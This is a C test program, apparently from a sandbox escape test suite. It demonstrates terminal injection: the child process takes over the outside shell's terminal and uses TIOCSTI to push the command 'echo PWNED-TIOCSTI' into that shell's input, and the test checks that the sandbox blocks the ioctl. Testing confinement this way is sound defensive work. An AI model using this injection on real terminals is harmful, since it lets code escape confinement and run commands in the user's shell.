/* SPDX-License-Identifier: MIT */
/*
 * Terminal injection: tiocsti, its stdin a terminal held by a reader
 * outside the tree, makes it its controlling terminal (a new session, as
 * a login shell's child could have it already) and pushes a command into
 * its input queue with TIOCSTI, which the reader outside (the shell the
 * tree was started from) would then read and run.  Natively the reader
 * gets the text; under --sandbox TIOCSTI fails (EPERM).
 */
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

int main(void)
{
	static const char cmd[] = "echo PWNED-TIOCSTI\n";
	pid_t pid = fork();
	int st;
	size_t i;

	if (pid < 0)
		setup_fail("fork");
	if (pid == 0) {
		step("setsid", setsid());
		step("TIOCSCTTY", ioctl(0, TIOCSCTTY, 0));
		for (i = 0; i < sizeof(cmd) - 1; i++)
			if (ioctl(0, TIOCSTI, &cmd[i]) < 0)
				break;
		step("TIOCSTI", i == sizeof(cmd) - 1 ? 0 : -1);
		_exit(0);
	}
	waitpid(pid, &st, 0);
	return 0;
}
